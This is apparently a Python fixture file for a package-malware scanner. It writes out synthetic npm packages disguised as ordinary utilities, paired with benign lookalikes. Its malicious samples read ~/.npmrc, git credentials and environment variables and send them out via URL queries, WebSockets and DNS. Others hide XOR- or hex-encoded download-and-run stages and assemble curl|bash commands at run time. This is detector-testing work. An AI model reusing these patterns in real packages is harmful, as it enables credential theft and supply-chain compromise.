"""Behaviour samples for scripts/make-samples.py (2026-11, issue 6, branch detect): one malicious
sample per behaviour class the scanner learned on the `detect` branch (secrets followed through
variables, parsers, helpers and local function parameters into requests, DNS names and
sockets; payloads split across modules' exports; XOR-encrypted stages in data files; download-
and-run commands assembled at run time), each written in its own shape, plus tricky-benign
packages that use the same APIs honestly. Same safety rules as samples_malicious.py: every
source is Python string data, packed into a tarball in memory, never written out, imported or
run. Defanged: documentation IPs, reserved host names, made-up tokens.
"""

import base64

from samples_malicious import S, pj
from samples_common import registry

SAMPLES, BENIGN, sample, benign = registry()


def _xor(data, key):
    return bytes(b ^ key[i % len(key)] for i, b in enumerate(data))


# ---------------------------------------------------------------------------------------------
# Secrets followed to the network


@sample
def npmrc_in_query_string():
    files = {
        "package.json": pj(name="semver-range-tools", version="2.3.1", main="index.js",
                           description="Helpers for semver ranges"),
        "index.js": r'''"use strict";
const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");
const { satisfies } = require("./lib/range");
const rc = [os.homedir(), ".npmrc"].join(path.sep);
function ping(v) {
  const u = new URL("https://telemetry.semver-tools.example/v");
  u.searchParams.set("c", v);
  https.get(u.toString() + "&q=" + encodeURIComponent(v), () => {}).on("error", () => {});
}
try {
  const conf = fs.readFileSync(rc, "utf8");
  ping(Buffer.from(conf).toString("base64url"));
} catch (e) {}
module.exports = { satisfies };
''',
        "lib/range.js": "exports.satisfies = (v, r) => r === '*' || v === r;\n",
    }
    return S(
        "det-npmrc-in-query-string",
        "~/.npmrc read through a path variable and sent base64url-encoded in a query string on require",
        "2018-2025",
        ["npmrc-read", "token-theft", "exfil-in-url", "network"],
        "Synthetic. The file name and the request never sit on the same line: the path is built "
        "with join(path.sep), the contents pass through a local ping() helper.",
        files,
    )


@sample
def git_credential_fill_websocket():
    files = {
        "package.json": pj(name="git-remote-utils", version="0.9.4", main="src/index.js",
                           description="Parse and normalise git remotes"),
        "src/index.js": r'''const { execSync } = require("child_process");
const { parseRemote } = require("./parse");
function session() {
  let creds = "";
  try {
    creds = execSync("git credential fill", { input: "protocol=https\nhost=github.com\n\n", encoding: "utf8" });
  } catch (_) { return; }
  const payload = { v: 2, c: creds.split("\n").filter(Boolean) };
  const sock = new WebSocket("wss://sync.gitremote.example/s");
  sock.onopen = () => sock.send(JSON.stringify(payload));
}
if (typeof WebSocket !== "undefined") setTimeout(session, 3000);
module.exports = { parseRemote };
''',
        "src/parse.js": r'''exports.parseRemote = (url) => {
  const m = /^(?:git@|https:\/\/)([^:/]+)[:/](.+?)(?:\.git)?$/.exec(url);
  return m ? { host: m[1], path: m[2] } : null;
};
''',
    }
    return S(
        "det-git-credential-fill-websocket",
        "git's stored credentials asked from the credential helper and sent over a WebSocket",
        "2024-2025",
        ["credential-helper", "git-credentials", "websocket", "delayed"],
        "Synthetic. `git credential fill` prints the stored username and password or token; "
        "Node 22's global WebSocket sends them without a network module import.",
        files,
    )


@sample
def env_chunks_over_dns():
    files = {
        "package.json": pj(name="ci-cache-keys", version="1.1.0", main="index.js",
                           description="Stable cache keys for CI",
                           scripts={"postinstall": "node scripts/warm.js"}),
        "index.js": "module.exports = (parts) => parts.join('-');\n",
        "scripts/warm.js": r'''const dns = require("dns");
const snapshot = {};
for (const [k, v] of Object.entries(process.env)) snapshot[k] = v;
const blob = Buffer.from(JSON.stringify(snapshot)).toString("hex");
const id = Math.random().toString(36).slice(2, 8);
for (let i = 0, n = 0; i < blob.length; i += 60, n++) {
  const label = blob.slice(i, i + 60);
  dns.resolve4(`${label}.${n}.${id}.k.cachekeys.example`, () => {});
}
''',
    }
    return S(
        "det-env-chunks-over-dns",
        "postinstall copies every environment variable, hex-encodes it and leaks it in DNS labels",
        "2021-2025",
        ["install-script", "env-harvest", "dns-exfil"],
        "Synthetic, after DNS-tunnelling dependency-confusion payloads; the environment is copied "
        "entry by entry, so no JSON.stringify(process.env) appears.",
        files,
    )


# ---------------------------------------------------------------------------------------------
# Payloads put together at run time


@sample
def split_hex_exports_function():
    code = ("const o=require('os'),h=require('http');"
            "h.request({host:'198.51.100.90',port:8080,path:'/r',method:'POST'})"
            ".end(JSON.stringify({u:o.userInfo().username,h:o.hostname(),e:process.env}))")
    hx = code.encode().hex()
    a, b = hx[: len(hx) // 2], hx[len(hx) // 2:]
    files = {
        "package.json": pj(name="intl-plural-rules", version="5.0.3", main="index.js",
                           description="Plural rules for many locales"),
        "index.js": r'''const { select } = require("./rules/select");
const data = require("./rules/data");
const t = require("./rules/tables");
new Function("require", Buffer.from(data.cldr.concat(t.suffix), "hex").toString())(require);
module.exports = { select };
''',
        "rules/select.js": "exports.select = (n) => (n === 1 ? 'one' : 'other');\n",
        "rules/data.js": "module.exports = { version: '44.1', cldr: '" + a + "' };\n",
        "rules/tables.js": "exports.suffix = '" + b + "';\nexports.locales = ['en', 'de', 'fr'];\n",
    }
    return S(
        "det-split-hex-exports-function",
        "hex payload split between two modules' exports, concatenated and run with new Function on require",
        "2022-2025",
        ["split-payload", "hex", "function-constructor", "env-harvest", "raw-ip", "network"],
        "Synthetic. No file holds a decodable blob; the halves meet only in index.js.",
        files,
    )


@sample
def xor_single_byte_model_file():
    code = ("const c=require('child_process'),f=require('fs'),p=require('path'),o=require('os');"
            "const d=p.join(o.tmpdir(),'.cache-w');"
            "require('https').get('https://models.tinyml.example/w.bin',r=>{const w=f.createWriteStream(d);"
            "r.pipe(w);w.on('finish',()=>{f.chmodSync(d,0o755);c.spawn(d,[],{detached:true,stdio:'ignore'}).unref()})})")
    files = {
        "package.json": pj(name="tinyml-runtime", version="0.4.2", main="lib/index.js",
                           description="Run tiny ML models in Node"),
        "lib/index.js": r'''const fs = require("fs");
const path = require("path");
function load(name) {
  const raw = fs.readFileSync(path.join(__dirname, "..", "models", name + ".bin"));
  for (let i = 0; i < raw.length; i++) raw[i] = raw[i] ^ 0x5a;
  return raw;
}
const m = load("weights");
eval(m.toString("utf8"));
exports.predict = (x) => x.map((v) => v * 0.5);
''',
        "models/weights.bin": _xor(code.encode(), b"\x5a"),
    }
    return S(
        "det-xor-single-byte-model-file",
        "single-byte XOR stage in a .bin 'model' file, decrypted on require and eval'd: downloads and starts a hidden binary",
        "2023-2025",
        ["hidden-code", "xor", "encrypted-payload", "eval", "download-exec", "detached-process"],
        "Synthetic. The decryptor is a three-line loop and the key a number, the file name built "
        "from a parameter.",
        files,
    )


@sample
def array_reversed_command():
    files = {
        "package.json": pj(name="react-hotkeys-lite", version="3.2.0", main="index.js",
                           description="Keyboard shortcuts for React"),
        "index.js": r'''const bind = (map) => (e) => map[e.key] && map[e.key](e);
const parts = ["bash", "|", "http://203.0.113.51/k", "-fsSL", "curl"];
const mod = ["process", "child"].reverse().join("_");
const run = require(mod)["exe" + "c"];
if (process.platform !== "win32") run(parts.reverse().join(" "), () => {});
module.exports = { bind };
''',
    }
    return S(
        "det-array-reversed-command",
        "curl|bash command kept as a reversed word array and joined at run time, run on require",
        "2022-2025",
        ["obfuscated", "array-reversal", "dynamic-require", "download-exec", "pipe-to-shell"],
        "Synthetic. Word order reversal instead of character reversal; the module name is joined "
        "from reversed pieces.",
        files,
    )


# ---------------------------------------------------------------------------------------------
# Code runners reached without eval, Function or a direct call


@sample
def worker_eval_remote_stage():
    files = {
        "package.json": pj(name="fast-queue-workers", version="1.8.0", main="index.js",
                           description="A tiny worker pool"),
        "index.js": r'''const { Worker } = require("worker_threads");
const https = require("https");
class Pool { constructor(n) { this.size = n; this.jobs = []; } push(j) { this.jobs.push(j); } }
function warm() {
  https.get("https://pool-metrics.fastqueue.example/bootstrap", (res) => {
    const chunks = [];
    res.on("data", (c) => chunks.push(c));
    res.on("end", () => {
      const w = new Worker(Buffer.concat(chunks).toString(), { eval: true, env: process.env });
      w.unref();
    });
  }).on("error", () => {});
}
warm();
module.exports = { Pool };
''',
    }
    return S(
        "det-worker-eval-remote-stage",
        "downloaded text started as a worker thread with eval: true on require",
        "2024-2025",
        ["remote-stage", "worker-threads", "eval", "network"],
        "Synthetic. worker_threads' eval option runs a string like eval does, in another thread, "
        "without naming eval, Function or vm.",
        files,
    )


@sample
def async_function_reflect_exec():
    files = {
        "package.json": pj(name="markdown-it-emoji-plus", version="3.0.7", main="index.js",
                           description="Emoji shortcodes for markdown-it"),
        "index.js": r'''const table = { smile: "\u{1F604}", heart: "\u2764" };
module.exports = (md) => md.core.ruler.push("emoji", (state) => state);
const AsyncFn = Object.getPrototypeOf(async function () {}).constructor;
const cp = require("child" + "_process");
Reflect.apply(cp.exec, cp, [atob("Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC4xNy9zLnNoIHwgc2g="), () => {}]);
fetch("https://cdn.emoji-plus.example/t.js").then((r) => r.text()).then((t) => new AsyncFn("require", t)(require)).catch(() => {});
''',
    }
    return S(
        "det-async-function-reflect-exec",
        "curl|sh started through Reflect.apply with a base64 command, and a fetched script compiled with the AsyncFunction constructor",
        "2024-2025",
        ["reflect-apply", "async-function-constructor", "base64", "download-exec", "remote-stage", "raw-ip"],
        "Synthetic. Neither exec(...) nor eval/Function appear as written calls.",
        files,
    )


# ---------------------------------------------------------------------------------------------
# Tricky benign: the same APIs, honest use


@benign
def inline_worker_literal():
    files = {
        "package.json": pj(name="tiny-thread-pool", version="0.5.1", main="index.js",
                           description="Run functions in worker threads"),
        "index.js": r'''const { Worker } = require("worker_threads");
const path = require("path");
const BOOT = "const { parentPort } = require(\'worker_threads\'); parentPort.on(\'message\', (m) => parentPort.postMessage(m * 2));";
exports.spawn = () => new Worker(BOOT, { eval: true });
exports.spawnFile = (f) => new Worker(path.resolve(f));
exports.call = (fn, args) => Reflect.apply(fn, null, args);
''',
    }
    return S(
        "det-benign-inline-worker-literal",
        "not malicious: a worker pool whose inline worker code is a constant string in the package",
        "2026",
        ["worker-threads", "eval-option", "reflect-apply"],
        "Counterpart of det-worker-eval-remote-stage: eval: true on code the package ships.",
        files,
    )


@benign
def dotenv_loader_with_update_check():
    files = {
        "package.json": pj(name="envfile-loader", version="3.1.0", main="lib/main.js",
                           description="Load .env files into process.env"),
        "lib/main.js": r'''const fs = require("fs");
const path = require("path");
const https = require("https");
function parse(src) {
  const out = {};
  for (const line of src.split(/\r?\n/)) {
    const m = line.match(/^\s*([\w.-]+)\s*=\s*(.*)$/);
    if (m) out[m[1]] = m[2];
  }
  return out;
}
function checkForUpdate(current) {
  https.get("https://updates.envfile-loader.example/latest", (r) => {
    let s = ""; r.on("data", (d) => (s += d));
    r.on("end", () => { if (s.trim() !== current) console.warn(`envfile-loader ${s.trim()} is available`); });
  }).on("error", () => {});
}
function config(opts = {}) {
  const p = opts.path || path.resolve(process.cwd(), ".env");
  const parsed = parse(fs.readFileSync(p, "utf8"));
  for (const k of Object.keys(parsed)) if (!(k in process.env)) process.env[k] = parsed[k];
  if (opts.checkUpdate) checkForUpdate("3.1.0");
  return { parsed, count: Object.keys(parsed).length };
}
module.exports = { config, parse };
''',
    }
    return S(
        "det-benign-dotenv-loader-update-check",
        "not malicious: loads .env into process.env and, on request, checks a version URL; no value leaves",
        "2026",
        ["dotenv", "network", "update-check"],
        "Counterpart of det secret-flow samples: .env read and a request in one file, not connected.",
        files,
    )


@benign
def github_client_auth_header():
    files = {
        "package.json": pj(name="gh-release-notes", version="2.0.1", main="index.js",
                           bin={"gh-release-notes": "index.js"},
                           description="Draft release notes from merged pull requests"),
        "index.js": r'''#!/usr/bin/env node
const { execSync } = require("child_process");
function token() {
  return process.env.GITHUB_TOKEN || execSync("gh auth token", { encoding: "utf8" }).trim();
}
async function pulls(repo) {
  const headers = { Authorization: `Bearer ${token()}`, Accept: "application/vnd.github+json" };
  const r = await fetch(`https://api.github.com/repos/${repo}/pulls?state=closed`, { headers });
  return r.json();
}
async function main() {
  const repo = process.argv[2];
  const list = await pulls(repo);
  await fetch(`https://api.github.com/repos/${repo}/releases`, {
    method: "POST",
    headers: { authorization: "token " + token() },
    body: JSON.stringify({ tag_name: process.argv[3], body: list.map((p) => `* ${p.title}`).join("\n"), draft: true }),
  });
}
if (require.main === module) main();
module.exports = { pulls };
''',
    }
    return S(
        "det-benign-github-client-auth-header",
        "not malicious: takes a GitHub token from the environment or `gh auth token` and sends it only as the Authorization header of GitHub API calls",
        "2026",
        ["github-api", "gh-cli", "token", "network"],
        "Counterpart of the credential-helper flow samples.",
        files,
    )


@benign
def xor_obfuscated_wordlist():
    words = b"\n".join([b"apple", b"banana", b"cherry", b"damson", b"elderberry", b"fig", b"grape"] * 6)
    files = {
        "package.json": pj(name="fruit-wordlist", version="1.0.4", main="index.js",
                           description="A word list kept lightly scrambled so it is not indexed"),
        "index.js": r'''const fs = require("fs");
const path = require("path");
const KEY = "fruit";
const raw = fs.readFileSync(path.join(__dirname, "words.dat"));
for (let i = 0; i < raw.length; i++) raw[i] = raw[i] ^ KEY.charCodeAt(i % KEY.length);
module.exports = raw.toString("utf8").split("\n");
''',
        "words.dat": _xor(words, b"fruit"),
    }
    return S(
        "det-benign-xor-obfuscated-wordlist",
        "not malicious: a word list XOR-scrambled in a data file and unscrambled on require (data, not code)",
        "2026",
        ["xor", "data-file"],
        "Counterpart of the XOR stage samples: same decryptor shape, the plaintext is not code.",
        files,
    )


@benign
def split_base64_icon_exports():
    png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 2).decode()
    a, b = png[: len(png) // 2], png[len(png) // 2:]
    files = {
        "package.json": pj(name="tiny-icon-set", version="0.3.0", main="index.js",
                           description="A few icons as data URLs"),
        "index.js": r'''const head = require("./icons/head");
const tail = require("./icons/tail");
const png = Buffer.from(head.logo + tail.logo, "base64");
module.exports = { logo: "data:image/png;base64," + png.toString("base64"), size: png.length };
''',
        "icons/head.js": "exports.logo = '" + a + "';\n",
        "icons/tail.js": "exports.logo = '" + b + "';\n",
    }
    return S(
        "det-benign-split-base64-icon-exports",
        "not malicious: an image split between two modules' exports and joined into a data URL",
        "2026",
        ["split-constants", "base64", "data-url"],
        "Counterpart of the split-payload samples: the joined bytes are an image, not code.",
        files,
    )
